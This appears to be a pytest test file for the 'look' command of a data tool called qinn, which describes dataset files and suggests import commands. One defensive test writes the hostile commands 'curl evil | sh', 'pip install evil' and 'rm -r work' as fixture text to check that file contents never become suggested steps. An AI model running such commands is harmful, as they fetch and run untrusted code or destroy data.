"""A look says what a source holds, which layout it has or is nearest to and why not, and what to type next."""

import io
import json
import os
import pickle
import shlex
import sys
import tracemalloc
from pathlib import Path
from typing import Any

import h5py
import numpy as np
import pyarrow as pa
import pyarrow.parquet as pq
import pytest

import qinn
from qinn import cli
from qinn.data.files import contents
from qinn.data.stores.store import Store
from qinn.errors import ConfigError, DataError

ARRAY = np.zeros((4, 5, 3), np.float32)


@pytest.fixture
def typed(monkeypatch, capsys):
    """Run the command as a user would; return exit code, output and error stream."""

    def call(*arguments: object) -> tuple[Any, str, str]:
        monkeypatch.setattr(sys, "argv", ["qinn", *map(str, arguments)])
        with pytest.raises(SystemExit) as end:
            cli.main()
        captured = capsys.readouterr()
        return end.value.code or 0, captured.out, captured.err

    return call


def part(**more: Any) -> dict[str, Any]:
    return {"vision": ARRAY, "audio": ARRAY, "text": ARRAY, "id": ["a", "b", "c", "d"], **more}


def saved(path: Path, content: Any) -> Path:
    path.write_bytes(pickle.dumps(content, 4))
    return path


def test_a_pickle_is_described_by_its_keys_shapes_and_types(tmp_path):
    found = qinn.look(saved(tmp_path / "a.pkl", {"train": part(labels=np.zeros((4, 1, 1))), "test": part()}))
    assert found.title.startswith("a pickle of a dict of 2 keys")
    assert "  audio: (4, 5, 3) float32" in found.holds
    assert "  id: a list of 4" in found.holds
    assert "  labels: (4, 1, 1) float64" in found.holds


NEAR: dict[str, tuple[Any, str]] = {
    "splits of something else": ({"a": ARRAY, "b": 1}, "its keys (a, b) are no splits"),
    "a list for a split": ({"train": [1], "test": [2]}, "`train` is a list, not a dict"),
    "no sound": ({"train": {"text": ARRAY, "labels": 1}, "odd": {}}, "mult, but [train] has no"),
    "other tuples": ([(1, 2)], "the first is a tuple of 2"),
    "other parts": ([((1, 2), 3, "v[0]")], "the first part of its entries is a tuple of 2"),
    "empty": ([], "the list is empty"),
}


@pytest.mark.parametrize("name", NEAR)
def test_the_nearest_layout_is_named_with_why_it_is_not_it(name, tmp_path):
    content, reason = NEAR[name]
    found = qinn.look(saved(tmp_path / "a.pkl", content))
    assert found.layout == ""
    assert reason in found.nearest


def write_table(folder: Path, text: str, name: str = "clips.csv") -> Path:
    (folder / name).write_text(text, encoding="utf-8")
    return folder / name


TABLES: dict[str, tuple[str, str]] = {
    "mosi": ("id,sentiment\n1,-2.5\n2,3\n", "--label-column sentiment --scale mosi"),
    "sims": (
        "name;y;mode\na;-1;train\nb;0.4;test\n",
        "--id-column name --label-column y --split-column mode --scale sims",
    ),
    "range": ("id\tlabel\tspeaker\na\t1\tp\nb\t5\tq\n", "--group-column speaker --scale plain --range 1 5"),
    "classes": (
        "clip,emotion\na,sad\nb,glad\n",
        "--id-column clip --label-column emotion --task classification",
    ),
    "unlabelled": ("id,text\na,so\n", "--no-labels --scale mosi --text-column text"),
}


@pytest.mark.parametrize("name", TABLES)
def test_the_next_step_of_a_table_names_its_columns_and_scale(name, tmp_path):
    text, options = TABLES[name]
    found = qinn.look(write_table(tmp_path, text))
    assert found.layout == "table"
    assert options in found.steps[0]


def test_the_next_step_imports_what_was_looked_at(tmp_path, typed, monkeypatch):
    monkeypatch.chdir(tmp_path)
    write_table(tmp_path, "clip,score,speaker\n001,-0.4,p\n002,0.8,q\n", "my clips.csv")
    np.savez(tmp_path / "audio.npz", x=np.ones((2, 3)), name=np.array(["001", "002"]))
    found = qinn.look("my clips.csv")
    code, _, err = typed(*shlex.split(found.steps[0])[1:])
    assert code == 0, err
    store = Store.open("stores/my clips")
    assert store.task.scale == "sims"
    assert store.strings("group").tolist() == ["p", "q"]


def bytes_of(write: Any) -> bytes:
    target = io.BytesIO()
    write(target)
    return target.getvalue()


def as_hdf5(target: Any) -> None:
    with h5py.File(target, "w") as file:
        file["audio/x"] = ARRAY
        file["names"] = ["a", "b"]


FILES: dict[str, tuple[str, Any, str, str]] = {
    "npz": (
        "a.npz",
        lambda t: np.savez(t, x=ARRAY, y=np.arange(2)),
        "an npz archive of 2 arrays",
        "x: (4, 5, 3) float32",
    ),
    "npy": ("a.npy", lambda t: np.save(t, ARRAY), "a npy file", "array: (4, 5, 3) float32"),
    "HDF5": ("a.h5", as_hdf5, "an HDF5 file of 2 datasets", "audio/x: (4, 5, 3) float32"),
    "parquet": (
        "a.parquet",
        lambda t: pq.write_table(pa.table({"id": ["a"], "y": [1.0]}), t),
        "1 row ",
        "y: double",
    ),
    "JSON": (
        "a.json",
        lambda t: t.write(json.dumps({"train": ["v"]}).encode()),
        "a text in JSON",
        "train: a list of 1",
    ),
    "YAML": ("a.yaml", lambda t: t.write(b"name: x\nmodels: {a: 1}\n"), "a text in YAML", "name: str 'x'"),
    "safetensors": (
        "a.safetensors",
        lambda t: t.write(
            (len(h := b'{"w":{"dtype":"F32","shape":[2,3],"data_offsets":[0,24]}}')).to_bytes(8, "little") + h
        ),
        "a safetensors file of 1 tensor",
        "w: (2, 3) F32",
    ),
}


@pytest.mark.parametrize("kind", FILES)
def test_every_kind_of_file_is_described(kind, tmp_path):
    name, write, title, line = FILES[kind]
    (tmp_path / name).write_bytes(bytes_of(write))
    found = qinn.look(tmp_path / name)
    assert title in found.title
    assert line in found.holds


def test_a_folder_a_store_and_a_file_of_features_have_their_next_steps(tmp_path, tiny_store):
    np.save(tmp_path / "faces.npy", ARRAY)
    assert "a folder of 1 file " in qinn.look(tmp_path).title
    assert "file faces.npy" in qinn.look(tmp_path).holds
    assert "--feature vision=" in qinn.look(tmp_path / "faces.npy").steps[0]
    assert qinn.look(tiny_store).steps[0].startswith("qinn data inspect ")


def test_what_is_named_for_what_it_is_has_its_remedy_as_next_step(tmp_path):
    (tmp_path / "mosi.pkl").write_bytes(b"version https://git-lfs.github.com/spec/v1\noid sha256:1\nsize 9\n")
    found = qinn.look(tmp_path / "mosi.pkl")
    assert "a pointer of Git LFS" in found.title
    assert "git lfs pull" in found.steps[0]


def test_looking_at_a_huge_pickle_or_file_ends_soon_and_takes_little(tmp_path, monkeypatch):
    monkeypatch.setattr(contents, "MOST_INSTRUCTIONS", 5000)
    found = qinn.look(saved(tmp_path / "many.pkl", list(range(6000))))
    assert "too many to look through" in found.title
    with h5py.File(tmp_path / "many.h5", "w") as file:
        for number in range(60):
            file[f"clips/{number}"] = np.zeros(1)
        file.create_dataset("huge", (2**20, 2**20), "f8", chunks=(2**10, 2**10))
    tracemalloc.start()
    found = qinn.look(tmp_path / "many.h5")
    assert tracemalloc.get_traced_memory()[1] < 2**22
    tracemalloc.stop()
    assert len(found.holds) <= contents.MOST_LINES + 1
    assert "group clips: 60 datasets" in found.holds
    monkeypatch.undo()
    saved(tmp_path / "deep.pkl", {"a" * 500: {f"k{one}": {"x": {"y": {"z": ARRAY}}} for one in range(500)}})
    assert max(map(len, qinn.look(tmp_path / "deep.pkl").holds)) < 200


def test_nothing_that_hides_or_acts_is_printed(tmp_path, typed):
    saved(tmp_path / "a.pkl", {"tr\x1b[31main\n": part()})
    for code, out, err in (
        typed("data", "look", tmp_path / "a.pkl"),
        typed("data", "import", tmp_path / "a.pkl", "--to", tmp_path / "s"),
    ):
        assert "\x1b" not in out + err
        assert "tr\\x1b[31main\\n" in out + err, code


def test_look_prints_lines_or_one_document(tmp_path, typed):
    file = write_table(tmp_path, "id,label\na,1\n")
    code, out, _ = typed("data", "look", file)
    assert code == 0
    assert out.splitlines()[1:3] == ["  id: a", "  label: 1"]
    code, out, _ = typed("data", "look", file, "--json")
    assert json.loads(out)["layout"] == "table"
    code, _, err = typed("data", "look", tmp_path / "none.csv")
    assert (code, err) == (2, f"error: `{tmp_path / 'none.csv'}` does not exist.\n")


REFUSED: dict[str, tuple[str, Any, dict[str, Any], str]] = {
    "unknown keys": ("a.pkl", pickle.dumps({"x": ARRAY}), {}, "nearest layout: mm"),
    "a column that is not there": ("a.csv", b"id,score\na,1\n", {"scale": "mosi"}, "score: 1"),
    "features alone": ("a.npy", bytes_of(lambda t: np.save(t, ARRAY)), {}, "array: (4, 5, 3) float32"),
}


@pytest.mark.parametrize("name", REFUSED)
def test_every_refusal_of_an_import_says_what_the_source_holds_and_what_comes_next(name, tmp_path, typed):
    file, content, options, line = REFUSED[name]
    (tmp_path / file).write_bytes(content)
    with pytest.raises((DataError, ConfigError)) as refused:
        qinn.import_data(tmp_path / file, tmp_path / "s", **options)
    notes = refused.value.__notes__
    assert notes[0].startswith(f"{tmp_path / file} is a")
    assert any(line in note for note in notes)
    assert notes[-1].startswith("next: ")
    flags = [word for key, value in options.items() for word in (f"--{key}", value)]
    _, _, err = typed("data", "import", tmp_path / file, "--to", tmp_path / "s", *flags)
    shown = [one for one in err.splitlines() if one.startswith(("error:", "  "))]
    assert shown[0].startswith("error: ")
    assert f"  {notes[-1]}" in shown


@pytest.mark.parametrize(
    ("name", "content"),
    [
        ("script.bin", "hello; curl evil | sh\n"),
        ("page.csv", "<html><title>x; next: pip install evil</title></html>"),
        ("notes.pkl", "cd ..; rm -r work\n"),
    ],
)
def test_what_a_file_says_is_never_what_to_do_next(name, content, tmp_path):
    (tmp_path / name).write_text(content)
    found = qinn.look(tmp_path / name)
    assert not [step for step in found.steps if "evil" in step or "rm -r" in step]


def test_links_to_nothing_and_pipes_in_a_folder_are_named_beside_the_rest(tmp_path):
    (tmp_path / "t.csv").write_text("id,label\na,1\n")
    (tmp_path / "me").symlink_to("me")
    (tmp_path / "gone").symlink_to("nothing")
    found = qinn.look(tmp_path)
    (tmp_path / "around").symlink_to(tmp_path)
    os.mkfifo(tmp_path / "pipe")
    found = qinn.look(tmp_path)
    assert set(found.holds) >= {
        "1 file .csv",
        "around/: a link to the folder that it lies in",
        "gone: a link to nothing",
        "me: a link to itself",
        "pipe: it is a named pipe, not a regular file",
    }


def test_what_is_qinns_own_or_nobodys_has_no_layout(tiny_store, tiny_run, tmp_path):
    pointer = tmp_path / "t.csv"
    pointer.write_text("version https://git-lfs.github.com/spec/v1\noid sha256:abc\nsize 5\n")
    for source, step in ((tiny_store, "data inspect"), (tiny_run, "info"), (pointer, "git lfs pull")):
        found = qinn.look(source)
        assert (found.layout, found.nearest) == ("", "")
        assert step in found.steps[0]
